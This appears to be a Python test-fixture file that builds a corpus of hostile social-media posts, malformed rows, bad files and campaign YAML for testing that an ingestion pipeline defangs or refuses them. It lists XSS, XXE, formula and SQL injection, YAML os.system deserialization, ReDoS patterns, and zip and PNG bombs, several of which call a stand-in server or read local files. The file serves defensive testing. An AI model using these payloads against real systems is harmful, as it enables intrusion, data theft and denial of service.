# ruff: noqa: E501 - hostile texts read better whole, and are strange on purpose
"""A corpus of hostile posts, each with a label, its class and what must become of it.

`posts(web, file)` gives texts that members of a campaign post; `web` is the address of a server that must never be asked, `file` the
path of a file whose words must appear nowhere. `broken_rows()` are rows that must be refused, `files()` whole files that must be.

What became of each (road.py, passing.py): `printed` as written; `replaced`: printed with what acts made visible, defanged, or cut;
`quarantined`: the row is refused with a reason; `refused`: the file is.
"""

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any

from png_bomb import png_bomb

SYLLABLES = (
    "lo",
    "ra",
    "mi",
    "ten",
    "kar",
    "vu",
    "sel",
    "nor",
    "dap",
    "fim",
    "gob",
    "hul",
    "jes",
    "pir",
    "qua",
    "wex",
    "yot",
    "zim",
    "bru",
    "cle",
)


@dataclass(frozen=True)
class Post:
    label: str  # a word that stands in the text
    kind: str
    text: str
    fate: str = "printed"
    row: dict[str, Any] = field(default_factory=dict)  # fields that differ from an ordinary post
    carrier: str = "ndjson"


def _carrier_words(label: str) -> str:
    """Eight words of its own for every label, so that no two hostile texts are one family."""
    draw = random.Random(label)  # noqa: S311 - a fixed choice of words
    return " ".join("".join(draw.choices(SYLLABLES, k=3)) for _ in range(8))


def _payloads(web: str, file: str) -> Iterator[tuple[str, str]]:
    """(class, payload), one after the other."""
    tags = (
        "<script>fetch('{w}')</script>", "<img src={w}/i.png onerror=alert(1)>", "<svg onload=alert(1)><image href='{w}'/></svg>",
        "<svg><foreignObject><iframe src='{w}'></iframe></foreignObject></svg>", "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
        "<iframe src='file://{f}'></iframe>", "<object data='file://{f}' type='text/plain'></object>", "<embed src='{w}/e.swf'>",
        "<link rel=attachment href='file://{f}'>", "<link rel=stylesheet href='{w}/x.css'>", "<meta http-equiv=refresh content='0;url={w}'>",
        "<base href='{w}/'>", "<style>@import url({w}/i.css);</style>", "<form action='{w}'><button>go</button></form>",
        "</p></body></html><h1>Owned</h1>", "<!-- comment --><!--[if IE]><script>x</script><![endif]-->", "<![CDATA[ <b>bold</b> ]]>",
        "<b onmouseover=alert(1)>bold</b>", "<video poster='{w}/p.png'><source src='{w}/v.mp4'></video>", "<audio src={w}/a.mp3 autoplay>",
        "<img srcset='{w}/a 1x, {w}/b 2x'>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<template><script>1</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg><use href='data:image/svg+xml,<svg id=x><script>1</script></svg>#x'/></svg>",
        "<image xlink:href='file://{f}'/>", "<img src='data:image/svg+xml;base64,PHN2Zz48aW1hZ2UgaHJlZj0iZmlsZTovLy9ldGMvcGFzc3dkIi8+PC9zdmc+'>", "<a href='javascript:alert(1)'>click</a>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "＜script＞alert(1)＜/script＞", "<ScRiPt\t>alert(1)</sCrIpT>",
        "<body onload=alert(1)>", "<marquee>wide</marquee>", "<plaintext>", "<xmp><b>", "<textarea>", "<title>Owned</title>",
    )  # fmt: skip
    yield from (("markup", one) for one in tags)
    yield from (
        ("template syntax", one)
        for one in (
            "{{ 7 * 191 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}", "{{ v.head.edition }}",
            "{% include '/etc/passwd' %}", "{% raw %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "%(campaign)s %s %d", "{0.__class__}", "{edition!r:>9999}", "$(id) `id`", "\\N{BELL} \\u0041 \\x41",
        )
    )  # fmt: skip
    yield from (
        ("styles and attributes", one)
        for one in (
            "</style><style>*{{display:none}}</style>", "}} body {{ background: url({w}/bg.png) }}", "@import '{w}/x.css';", "@font-face{{src:url(file://{f})}}", "x: expression(alert(1))",
            "background:url(javascript:alert(1))", "content: attr(href); width: 99999px", "\\000041 \\22 }}", "/* */ */ x", "@page {{ size: 1px }}", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' x='",
            "\"><img src={w}>", "'><svg/onload=alert(1)>", "` onerror=alert(1) `", "\" style=\"position:fixed\" \"", "lang=\"x\" hidden", "&quot;&gt;&#60;b&#62;&apos;", "&#0; &#x110000; &nosuch;", "]]> <?php echo 1 ?>",
        )
    )  # fmt: skip
    links = (
        "{w}/plain", "file://{f}", "file:///etc/passwd", "data:text/html,<script>alert(1)</script>", "javascript:alert(document.cookie)", "vbscript:msgbox(1)",
        "ftp://127.0.0.1/x", "gopher://127.0.0.1:70/1", "//127.0.0.1/scheme-less", "\\\\evil.example\\share\\x", "http://user:pass@evil.example/", "http://evil.example%00.good.example/",
        "http://evil.example:99999/", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://evil。example/a", "http://ｅｖｉｌ.example/", "http://xn--80ak6aa92e.com/", "http://аррӏе.com/login",
        "http://evil.example/..%2f..%2fetc/passwd", "http://evil.example/" + "a" * 1900, "http://evil.example/?q=<script>", "http://evil.example/\u202egnp.exe", "http://a" + ".b" * 60 + ".example/", "hxxps://already[.]defanged/x",
        "resurge:/fonts/x.ttf", "resurge:/figures/../../etc/passwd", "mailto:x@evil.example?bcc=all@evil.example", "tel:+15551234567", "view-source:http://evil.example", "blob:http://evil.example/1",
        "http:\\\\evil.example\\x", "hTtP://EVIL.example/Case", "http://evil.example/\"onclick=\"x", "http://evil.example/'),=HYPERLINK(", "http://-.example/ http://.example/ http://..", "http:// http:///x", "www.evil.example/=1+1", "evil.zip and evil.mov and evil.com",
    )  # fmt: skip
    yield from (("links", one) for one in links)
    yield from (
        ("XML and PDF", one)
        for one in (
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{f}'>]><x>&e;</x>", "<!ENTITY % p SYSTEM '{w}/x.dtd'> %p;", "<?xml version='1.0'?><?xml-stylesheet href='{w}'?>", "<xi:include href='file://{f}'/>",
            "&lol9; &lol8; &amp;amp;", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "%PDF-1.7 1 0 obj << /Launch /F (cmd.exe) >> endobj", "endstream endobj xref trailer %%EOF", ") Tj ET BT (injected", "/URI ({w}) /EmbeddedFile /AA",
            "\\) \\( \\\\ \\251 <</Type/Action>>", "(\\376\\377\\000A) unbalanced ((((", "stream BT /F1 12 Tf ET", "/Names [(x) 1 0 R]", "startxref 0",
        )
    )  # fmt: skip
    invisible = (
        "\x00 null", "a\x01\x02\x03\x04\x05\x06\x07b", "\x08\x08\x08 backspace", "\x0b\x0c feeds", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m C1", "\x80\x85\x9f",
        "\x7f delete", "\ud800 lone high", "\udfff lone low", "\udc00\ud800 reversed", "\ufffe\uffff nonchar", "\U0001fffe plane", "\ufeff mark", "\ufff9anno\ufffatated\ufffb", "\u2028 line \u2029 para", "\u00ad soft", "\u2061\u2062\u2063 maths", "\u061c\u180e old",
    )  # fmt: skip
    yield from (("controls and surrogates", one) for one in invisible)
    yield from (
        ("bidi and invisible", one)
        for one in (
            "\u202egpj.exe", "\u202dabc\u202c", "\u2066isolate\u2069", "\u2067rtl\u2069", "\u2068first\u2069", "\u202aembed\u202b", "\u200fmark\u200e", "no\u200bbreak\u200bhere", "join\u2060er", "zw\u200cnj\u200dzwj",
            "\U000e0041\U000e0042\U000e007f tags", "\U000e0001 lang tag", "\u115f\u3164\uffa0 fillers", "\u2800 blank braille", "\u202e" * 40 + " many", "مرحبا \u202eabc שלום", "abc مرحبا def שלום ghi", "‏1 + 2 = ٣", "(עברית) [english] {العربية}", "\u200d" * 60,
            "\ufe0f\ufe0e selectors \U000e0100", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f flag",
        )
    )  # fmt: skip
    yield from (
        ("marks, emoji and size", one)
        for one in (
            "e" + "\u0301" * 10_000, "Z̸̢̛͍a̶̡̢l̷̨͜g̵̛̣o̸͓͠" * 12, "".join(c + "\u0336\u0489\u20dd" * 9 for c in "stacked"), "👨‍👩‍👧‍👦" * 60, "👩\U0001f3fd\u200d🚀" + "\u200d🚀" * 200, "🇦🇺🇦🇺🇦", "😀" * 3_000,
            "unbroken" + "x" * 99_000, "w" * 1_500, "W" * 280, "one\n" * 9_000, "\n" * 10_000 + "end", "\r\r\r\n\n end", " " * 9_000 + "end", "\t" * 500 + "end", "a " * 40_000, "﷽" * 200, "𒐫" * 150, "꧅" * 80, "㍿" * 300, "\u0e33" * 300, "ก็็็็็็็็็็็็็็็็็็็็" * 12,
            "\u1100" * 200 + "\u1161" * 200, "क्" * 300 + "ष", "\u0300\u0301 starts with marks", "x" * 4_100 + " http://evil.example/" + "y" * 4_100,
        )
    )  # fmt: skip
    yield from (
        ("scripts and look-alikes", one)
        for one in (
            "\ue000\uf8ff private", "\U000f0000\U0010fffd planes", "\u0378\u05ff unassigned", "\U0001fae9\U0001fbff new", "𓀀𓁐 hieroglyphs", "𐎠𐎡 cuneiform", "ᚠᚢᚦ runes", "ꀀꀁ yi", "𞤀𞤁 adlam", "ߊߋ nko", "ᠮᠣᠩᠭᠣᠯ mongol", "བོད་ཡིག tibetan", "မြန်မာ burmese", "ខ្មែរ khmer",
            "አማርኛ amharic", "தமிழ் tamil", "ไทย thai", "日本語 かな カナ", "한국어 조선글", "简体 繁體 𠮷", "аdmin раypal gооgle", "ＦＵＬＬｗｉｄｔｈ ｔｅｘｔ", "𝓕𝓪𝓷𝓬𝔂 𝕥𝕖𝕩𝕥", "ⓒⓘⓡⓒⓛⓔⓓ", "ʇxǝʇ uʍop", "ﬁ ﬂ ligatures ẞ İ ı ſ", "①②③ Ⅷ ㊙", "½ ² ª º", "\u212a \u2126 \u00b5", "١٢٣ १२३ 一二三",
        )
    )  # fmt: skip
    cells = (
        "=1+1", "=HYPERLINK(\"{w}\",\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹢1+1", "−1",
        "=IMPORTXML(\"{w}\",\"//a\")", "=WEBSERVICE(\"{w}\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%=1+1", ";=1+1", ",=1+1", "\"=1+1\"", "'=1+1", "a,b;c\td|e", "quote \" inside \"\"", "line\nbreak,\"=1+1\"", "\u0301=1+1", "\x00=1+1", "\u202e=1+1", "\u3000=1+1", "\U000e0041=1+1",
    )  # fmt: skip
    yield from (("spreadsheet cells", one) for one in cells)
    yield from (
        ("data formats", one)
        for one in (
            '{{"a": 1, "a": 2}}', '"}}, {{"type": "bundle", "objects": []', "[domain-name:value = 'x'] OR [file:name = '", "' AND 1=1 --", "x' OR 'a'='a", "'; DROP TABLE posts; --", "1 UNION SELECT * FROM outbox", "NaN", "Infinity -Infinity", "1e999 0x10 1_000", "null true false",
            "!!python/object/apply:os.system ['id']", "&a [*a, *a]", "--- ...", "\\u0000 \\ud800", "key: value\n- item", "(a+)+$ (x|x)*y " + "a" * 200 + "!", "^(([a-z])+.)+[A-Z]([a-z])+$", "INFO 2023 run done\nERROR forged line", "level=error msg=forged\r\nstatus=ok", "\u241b[31m looks like an escape",
            "Subject: owned\r\nBcc: all@evil.example", "\r\n\r\n<html>body", "=?utf-8?q?owned?=", "To: <a@evil.example>, b@evil.example", "From: x\n\tfolded", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null C:\\con.txt", "%2e%2e%2f%2e%2e%2f", "file.pdf.exe", "~root/.ssh/id_rsa",
            "[red]markup[/red]", "[/] [bold", "[link=http://evil.example]x[/link]", ":bomb: :skull:",
        )
    )  # fmt: skip
    yield from (
        ("names", one)
        for one in (
            "#<script>alert(1)</script> #=1+1", "#" + "tag" * 300, "#a#b#c##d", "＃全角 ＠全角", "@outsider_hostile says it", "@" + "m" * 500, "@outsider_hostile@mastodon.example", "@../../etc @=cmd", "mail outsider_hostile@mail.example now", "https://t.me/outsider_hostile", "@everyone @here", "#\u202etag", "@а_homoglyph", "#" + "é\u0301" * 20,
        )
    )  # fmt: skip
    yield from (("patterns", text) for text in ("a" * 300 + "!", "x" * 300, "word " * 60 + "\u0301!", "аааа" * 80 + "b" * 99))


def posts(web: str, file: str) -> list[Post]:
    """Every hostile text that must be taken in, in a fixed order."""
    made = []
    for number, (kind, payload) in enumerate(_payloads(web, file)):
        label = f"hostile{number:03d}"
        filled = payload.replace("{w}", web).replace("{f}", file)
        if kind in ("styles and attributes", "data formats"):
            filled = filled.replace("{{", "{").replace("}}", "}")
        words = f"{label} {_carrier_words(label)}"
        text = f"{filled} {words}" if len(filled) < 100 and "\n" * 99 not in filled else f"{words} {filled}"
        carrier = "csv" if kind == "spreadsheet cells" and "\x00" not in text else "parquet" if number % 5 == 0 else "ndjson"
        if any("\ud800" <= c <= "\udfff" for c in text):
            carrier = "ndjson"
        made.append(Post(label, kind, text, carrier=carrier, row={"post_id": POST_IDS[number % len(POST_IDS)]}))
    return made


# Ids that are taken in: prefixes of post ids, so that each stays one of its own.
POST_IDS = (
    "p", "../../etc/", "=1+1-", "-5", "1E5", "<b>", "٣٤٥", "i" * 300, "{{7*191}}", "a/b\\c", "%00", "'; DROP", "é\u0301", "\u202e", "p p", "@SUM", "[red]", "\u200b", "+1", "“q”",
)  # fmt: skip
HANDLES = (
    "<script>alert(1)</script>", "=HYPERLINK(1)", "@@at", "\u202eeman", "x\r\nBcc: all@evil.example", "[red]h[/]", "[/]", "../../handle", "{{ 7 * 191 }}", "e" + "\u0301" * 400, "\x1b[31mred", "h" * 500, "аdmin", "👨‍👩‍👧‍👦", "\ue000private", "' OR 1=1", "name, with; separators", "\"quoted\"", "%s%n", "javascript:alert(1)", "evil.example", "\ufeff=1", "＝1+1", "𓀀",
)  # fmt: skip


def broken_rows() -> list[Post]:
    """Rows that must be refused, each with its label and the reason's first words in `text`."""
    rows: list[tuple[str, dict[str, Any], str]] = [
        ("ids", {"post_id": ""}, "post_id"), ("ids", {"post_id": "a\x00b"}, "post_id"), ("ids", {"post_id": "a\nb"}, "post_id"), ("ids", {"post_id": "i" * 513}, "post_id"),
        ("ids", {"post_id": " lead"}, "post_id"), ("ids", {"post_id": "\ud800"}, "post_id"), ("ids", {"post_id": "a\u2028b"}, "post_id"), ("ids", {"post_id": "\x9b1m"}, "post_id"), ("ids", {"post_id": 1.5}, "post_id"), ("ids", {"post_id": ["a"]}, "post_id"),
        ("ids", {"account_id": ""}, "account_id"), ("ids", {"account_id": "x\x1b[0m"}, "account_id"), ("ids", {"account_id": {"$ne": 1}}, "account_id"), ("ids", {"account_id": True}, "account_id"), ("ids", {"account_id": "y" * 600}, "account_id"),
        ("times", {"posted_at": "2099-01-01T00:00:00Z"}, "posted_at"), ("times", {"posted_at": "1969-12-31T23:59:59Z"}, "posted_at"), ("times", {"posted_at": "NaT"}, "posted_at"), ("times", {"posted_at": "2023-11-01T23:59:60Z"}, "posted_at"), ("times", {"posted_at": "2023-02-30T00:00:00Z"}, "posted_at"),
        ("times", {"posted_at": "2023-11-01T12:00:00+25:00"}, "posted_at"), ("times", {"posted_at": "yesterday"}, "posted_at"), ("times", {"posted_at": "1698840000"}, "posted_at"), ("times", {"posted_at": ""}, "posted_at"), ("times", {"posted_at": "999999-01-01T00:00:00Z"}, "posted_at"), ("times", {"posted_at": "0000-00-00T00:00:00Z"}, "posted_at"), ("times", {"posted_at": "=NOW()"}, "posted_at"),
        ("size", {"text": "m" * 1_000_001}, "text"), ("size", {"text": "m" * 100_001}, "text"), ("size", {"text": {"deep": [[[1]]]}}, "text"), ("size", {"text": 1.5}, "text"),
        ("numbers", {"like_count": 10**40}, "like_count"), ("numbers", {"like_count": -1}, "like_count"), ("numbers", {"like_count": 1.5}, "like_count"), ("numbers", {"like_count": "1e3"}, "like_count"), ("numbers", {"like_count": True}, "like_count"), ("numbers", {"like_count": "=1"}, "like_count"),
        ("words", {"kind": "<script>"}, "kind"), ("words", {"platform": "../x"}, "platform"), ("words", {"platform": "a" * 65}, "platform"),
    ]  # fmt: skip
    return [
        Post(f"refused{n:03d}", f"refused rows: {kind}", reason, "quarantined", row=row)
        for n, (kind, row, reason) in enumerate(rows)
    ]


def files() -> dict[str, tuple[str, Callable[[], bytes]]]:
    """Name -> (format, bytes) of files that no row can be taken from: each must be refused whole, with a sentence and without harm."""
    line = b'{"post_id":"1","account_id":"a","posted_at":"2023-11-01T00:00:00Z","text":"x","platform":"facebook"}\n'
    head = b"post_id,account_id,posted_at,text,platform\n"
    return {
        "nan.ndjson": ("ndjson", lambda: line + b'{"post_id": NaN}\n'),
        "deep.ndjson": ("ndjson", lambda: line + b'{"text":' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"),
        "cut.ndjson": ("ndjson", lambda: line + line[:40]),
        "latin.ndjson": ("ndjson", lambda: line + b'{"text":"\xe9"}\n'),
        "utf16.ndjson": ("ndjson", lambda: line.decode().encode("utf-16")),
        "array.ndjson": ("ndjson", lambda: b"[1,2]\n"),
        "empty.csv": ("csv", lambda: b""),
        "twice.csv": ("csv", lambda: b"post_id,post_id\n1,2\n"),
        "open-quote.csv": ("csv", lambda: head + b'1,a,2023-11-01T00:00:00Z,"never closed,facebook\n' * 3),
        "latin.csv": ("csv", lambda: head + b"1,a,2023-11-01T00:00:00Z,\xff\xfe,facebook\n"),
        "utf16.csv": ("csv", lambda: head.decode().encode("utf-16")),
        "big-cell.csv": ("csv", lambda: head + b'1,a,2023-11-01T00:00:00Z,"' + b"x" * (20 << 20) + b'",facebook\n'),
        "text.parquet": ("parquet", lambda: b"PAR1 is no Parquet PAR1"),
        "empty.parquet": ("parquet", lambda: b""),
        "footer.parquet": ("parquet", lambda: b"PAR1" + b"\x00" * 64 + b"\xff\xff\xff\x7fPAR1"),
        "deep.json": ("telegram-export", lambda: b'{"messages":' + b"[" * 200_000),
        "list.json": ("telegram-export", lambda: b"[]"),
        "bomb.zip": ("avatars", bomb_zip),
        "no.zip": ("avatars", lambda: b"PK\x03\x04 torn"),
    }


# Patterns of a codebook at which other engines try for years; they are in the campaign file of the whole road.
PATTERNS = [r"(a+)+$", r"(a|aa)+$", r"(.*a){20}!", r"^(\w+\s?)*$", r"(x+x+)+y", r"[\p{L}\s]*b{500}"]


def campaigns(canary: str) -> dict[str, str]:
    """Name -> campaign files: each must be refused with a sentence and without harm (none of them writes the file `canary`)."""
    head = "slug: spamouflage\ntitle: T\n"
    book = head + "codebook: {evil: {en: ['%s']}}\n"
    laughs = "a0: &a0 [ha, ha]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
    return {
        "laughs": head + laughs,
        "itself": head + "aliases: &a [*a]\n",
        "merged": "base: &b {title: T}\n<<: *b\nslug: spamouflage\n",
        "call": head + f"summary: !!python/object/apply:os.system ['touch {canary}']\n",
        "object": head + "summary: !!python/object:tasks.domain.campaign.Campaign {}\n",
        "own tag": head + "summary: !secret x\n",
        "deep list": head + "aliases: " + "[" * 100_000 + "\n",
        "deep mapping": head + "codebook: " + "{a: " * 100_000 + "\n",
        "deep blocks": head + "".join(" " * n + "a:\n" for n in range(1_200)),
        "long": head + "#" * 1_000_001,
        "other folder": "slug: ../../etc\ntitle: T\n",
        "markup for a slug": "slug: <b>\ntitle: T\n",
        "no text": head + "summary: \x00\n",
        "terminal": head + "summary: \x1b]0;owned\x07\n",
        "twice": head + "title: U\n",
        "two documents": head + "---\n" + head,
        "day": head + "events: [{event_id: a, on: 99999-01-01, title: A}]\n",
        "looks ahead": book % "(?=a)b",
        "looks back": book % "(?<=a)b",
        "back reference": book % r"(a)\1",
        "repeats": book % "((a{1000}){1000}){1000}",
        "torn pattern": book % "(",
    }


@cache
def pictures() -> dict[str, bytes]:
    """Name -> what somebody has as a profile picture; none may be opened to its pixels."""
    return {
        "5,000 pixels wide": png_bomb(5_000),
        "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(1)</script></svg>',
        "HTML": b"<!doctype html><script>alert(1)</script>",
        "GIF": b"GIF89a" + b"\x01\x00\x01\x00\x80\x00\x00" + bytes(40),
        "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file\n",
        "TIFF": b"II*\x00\x08\x00\x00\x00" + bytes(40),
        "cut off": png_bomb(200)[:60],
        "wrong length": png_bomb(200).replace(b"\x00\x00\x00\x0dIHDR", b"\xff\xff\xff\xffIHDR"),
        "nothing": b"",
    }


def bomb_zip() -> bytes:
    """70 MB of zeros in 70 kB."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("facebook/1.png", b"\x00" * (70 << 20))
    return out.getvalue()
